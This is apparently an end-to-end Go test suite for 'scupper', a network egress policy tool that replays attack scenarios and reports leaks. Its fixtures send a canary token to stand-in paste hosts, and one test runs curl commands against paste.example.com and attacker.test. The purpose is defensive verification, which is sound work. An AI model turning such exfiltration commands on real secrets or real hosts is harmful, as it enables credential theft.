package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// pack copies the scenarios of this folder to where u can read them.
func (w *world) pack() string {
	w.t.Helper()
	var folders []string
	files := make(map[string][]byte)
	err := filepath.WalkDir("scenarios", func(path string, e os.DirEntry, err error) error {
		switch {
		case err != nil:
			return err
		case e.IsDir():
			folders = append(folders, path)
			return nil
		}
		files[path], err = os.ReadFile(path)
		return err
	})
	if err != nil {
		w.t.Fatal(err)
	}
	dir := w.user.folder(w.t, folders...)
	for path, text := range files {
		w.user.file(w.t, filepath.Join(dir, path), text)
	}
	return filepath.Join(dir, "scenarios")
}

// replayed is what --json prints.
type replayed struct {
	OK                bool
	Scenarios, Passed int
	Results           []struct {
		Name   string
		OK     bool
		Faults []struct{ Kind, Text string }
	}
}

func (a *attempt) replayed() (r replayed) {
	a.t.Helper()
	if err := json.Unmarshal([]byte(a.stdout), &r); err != nil {
		a.t.Fatalf("%s\n%v", a, err)
	}
	return r
}

// packTime is how long all scenarios may take on a machine that is busy with other things.
const packTime = 10 * time.Minute

// replay replays a whole pack and wants everything to come out as expected.
func (w *world) replay(args ...string) {
	w.t.Helper()
	tool, err := exec.LookPath("go")
	if err != nil {
		w.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), packTime)
	defer cancel()
	cmd := w.command(ctx, append([]string{prepared("scupper"), "replay", "--json"}, args...), []string{"PATH=" + w.user.path() + ":" + filepath.Dir(tool)})
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err = cmd.Run()
	var got replayed
	if wrong := json.Unmarshal(stdout.Bytes(), &got); wrong != nil {
		w.t.Fatalf("replay %v: %v, %v\n%s", args, err, wrong, &stderr)
	}
	if err != nil || !got.OK || got.Passed != got.Scenarios || got.Scenarios == 0 {
		w.t.Errorf("replay %v: %v: %d of %d as expected", args, err, got.Passed, got.Scenarios)
	}
	for _, r := range got.Results {
		if !r.OK {
			w.t.Errorf("%s: %v", r.Name, r.Faults)
		}
	}
}

// TestPackHolds replays every scenario, as root and as an ordinary user, and shows that
// every attack arrives where scupper is left out.
func TestPackHolds(t *testing.T) {
	for _, u := range users(t) {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			dir := w.pack()
			w.replay(dir)
			if u.name != ordinaryUser(t).name {
				return // what arrives without scupper does not depend on who tries
			}
			w.replay("--without", "all", dir)
		})
	}
}

const leakyPolicy = `version = 1
grant "paste" {
  reason = "test"
  owner  = "test"
  host   = "paste.example.com"
  credential = anonymous
  allow {
    methods = ["POST"]
    path    = "/"
    body {
      type = "text/plain"
      max  = "1KiB"
    }
  }
}
`

const pasted = `scenario "paste" {
  describe = "a paste"
  attempt {
    http {
      method  = "POST"
      url     = "https://paste.example.com/"
      headers = { Content-Type = "text/plain" }
      body    = %s
    }
  }
  expect {
    verdict = "%s"
  }
}
`

// TestReplayFindsFaults plants one fault of each kind.
func TestReplayFindsFaults(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	plant := func(policy, body, verdict string) string {
		w.work("policy.hcl", policy)
		return w.work("s.hcl", strings.NewReplacer("%s", body, `"%s"`, `"`+verdict+`"`).Replace(pasted))
	}
	t.Run("a leak, whatever the log says", func(t *testing.T) {
		path := plant(leakyPolicy, "base64(canary.token)", "allow")
		a := w.scupper("replay", path).wantExit(1)
		a.wantStdout("LEAK").wantStdout("base64").wantStdout("policy.hcl:7:3")
	})
	t.Run("a known use of the same grant", func(t *testing.T) {
		path := plant(leakyPolicy, `"hello"`, "allow")
		w.scupper("replay", path).wantExit(0)
	})
	t.Run("a job that is refused", func(t *testing.T) {
		path := plant("version = 1\n", `"hello"`, "allow")
		w.scupper("replay", path).wantExit(1).wantStdout("REFUSED")
	})
	t.Run("an attack that is not refused", func(t *testing.T) {
		path := plant(leakyPolicy, `"hello"`, "deny")
		w.scupper("replay", path).wantExit(1).wantStdout("nothing was refused")
	})
	t.Run("an attack that cannot fail", func(t *testing.T) {
		path := plant("version = 1\n", `"hello"`, "deny")
		w.scupper("replay", path).wantExit(0)
		w.scupper("replay", "--without", "all", path).wantExit(1).wantStdout("CANNOT FAIL")
	})
	t.Run("a mistake", func(t *testing.T) {
		path := plant("version = 1\n", `nobody.knows`, "deny")
		w.scupper("replay", path).wantExit(2).wantStderr("s.hcl:8,").wantStderr("nothing was run").farSideNothing()
	})
	t.Run("a policy with a mistake", func(t *testing.T) {
		path := plant("version = 2\n", `"hello"`, "deny")
		w.scupper("replay", path).wantExit(2).wantStderr("policy.hcl")
	})
}

// TestReplayForms writes the results in every form.
func TestReplayForms(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.work("policy.hcl", leakyPolicy)
	path := w.work("s.hcl", `service "own" {
  host = "crm.example.com"
  respond { body = "from the file" }
}
scenario "leaky" {
  describe = "a paste with the token"
  attempt {
    http {
      method  = "POST"
      url     = "https://paste.example.com/"
      headers = { Content-Type = "text/plain" }
      body    = canary.token
    }
  }
  expect { verdict = "deny" }
}
scenario "typed" {
  describe = "a paste of another type, at another path"
  for_each = { path = "https://paste.example.com/raw", type = "https://paste.example.com/" }
  attempt {
    http {
      method  = "POST"
      url     = each.value
      headers = { Content-Type = "application/json" }
      body    = json({ t = canary.token })
    }
  }
  expect { verdict = "deny" }
}
`)
	junit, sarif := w.at("home/junit.xml"), w.at("home/replay.sarif")
	a := w.scupper("replay", "--junit", junit, "--sarif", sarif, "--github", "--matrix", path).wantExit(1)
	a.wantStdout("::error file=").wantStdout("title=LEAK leaky::").wantStdout("stopped by body alone").wantStdout("typed[path]  x     o   \n")
	for file, want := range map[string]string{junit: `<testsuite name="scupper replay" tests="3" failures="1" errors="0">`, sarif: `"startLine": 7`} {
		text, err := os.ReadFile(file)
		if err != nil || !strings.Contains(string(text), want) {
			t.Errorf("%s: %v: no %q in\n%s", file, err, want, text)
		}
	}
	w.scupper("replay", "--without", "body", path).wantExit(1).wantStdout("LEAK         typed[type]")
}

// TestReplayService has a service of a scenario file answer, with a job that needs it.
func TestReplayService(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.work("policy.hcl", strings.NewReplacer("paste.example.com", "crm.example.com", `"POST"`, `"GET"`, `    body {
      type = "text/plain"
      max  = "1KiB"
    }
`, "").Replace(leakyPolicy))
	text := `service "own" {
  host = "crm.example.com"
  respond { body = "from the file" }
}
scenario "job" {
  describe = "what the service is for"
  attempt {
    http { url = "https://crm.example.com/" }
  }
  expect {
    verdict = "allow"
    output  = "%s"
    arrives = ["GET https://crm.example.com/"]
  }
}
`
	w.scupper("replay", w.work("s.hcl", strings.Replace(text, "%s", "from the file", 1))).wantExit(0)
	w.scupper("replay", w.work("s.hcl", strings.Replace(text, "%s", "from elsewhere", 1))).wantExit(1).wantStdout("UNEXPECTED")
}

// TestReplayRecord makes a scenario of a run, and replays it.
func TestReplayRecord(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.policy(leakyPolicy)
	a := w.run(shell("curl -sS -d x -H 'Content-Type: text/plain' https://paste.example.com/; curl -sS https://paste.example.com/secret?a=b; curl -sS https://attacker.test/"))
	recorded := w.scupper("replay", "--record", "last", "--audit", a.audit).wantExit(0).stdout
	for _, want := range []string{`method = "GET"`, `url    = "https://paste.example.com/secret?a=x"`, `dns { name = "attacker.test" }`, "path_not_granted", "no_grant", `arrives = ["POST https://paste.example.com/*"]`} {
		if !strings.Contains(recorded, want) {
			t.Errorf("no %q in\n%s", want, recorded)
		}
	}
	w.scupper("replay", w.work("recorded.hcl", recorded)).wantExit(0).wantStdout("1 attack, 0 jobs; 1 as expected")
}
